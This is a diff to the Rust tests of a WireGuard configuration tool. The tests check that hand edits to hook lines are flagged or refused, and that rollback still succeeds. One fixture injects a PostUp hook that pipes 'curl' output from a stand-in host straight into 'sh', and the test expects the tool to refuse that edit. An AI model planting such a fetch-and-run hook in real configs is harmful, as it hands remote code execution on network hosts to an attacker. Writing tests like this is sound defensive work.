@@ -184,19 +184,19 @@ fn deeds() -> Vec<Deed> {
         deed(
             "hub",
             "sed -i 's/^\\[Interface\\]/&\\nPostUp = ip route add 10.99.0.0\\/24 dev %i/' $CONF",
-            &[("hooks_changed", "warning", "wg0.conf")],
+            &[("hooks_changed", "warning", "")],
             Whole,
         ),
         deed(
             "hub",
             "sed -i 's/^\\[Interface\\]/&\\nPostUp = curl -s http:\\/\\/203.0.113.9\\/x | sh/' $CONF",
-            &[("hooks_changed", "warning", "wg0.conf")],
+            &[("hooks_changed", "warning", "")],
             Not("curl"),
         ),
         deed(
             "hub",
             "sed -i '0,/^PostUp/s/^PostUp = .*/PostUp = true/' $CONF",
-            &[("hooks_changed", "warning", "wg0.conf")],
+            &[("hooks_changed", "warning", "")],
             Not("wg-friend's own"),
         ),
         deed(
@@ -353,7 +353,9 @@ fn whatever_is_done_by_hand_is_called_by_its_name_and_ends_in_an_empty_plan() ->
                 let said = deployed("");
                 let (empty, shown) = plan("");
                 expect(empty, format!("taken over and deployed, still\n{shown}\nafter\n{said}"));
-                admin.ok(&["rollback", "--model", &state, "--yes"]);
+                // Keys that were replaced stay so: then the model is like before already.
+                let rolled = admin.run(&["rollback", "--model", &state, "--yes"]);
+                expect(rolled.status == 0 || rolled.stderr.contains("like at state"), rolled.stderr);
             }
             Not(why) => {
                 expect(adopted.status == 1 && answer.contains(why), format!("not refused for `{why}`: {answer}"));
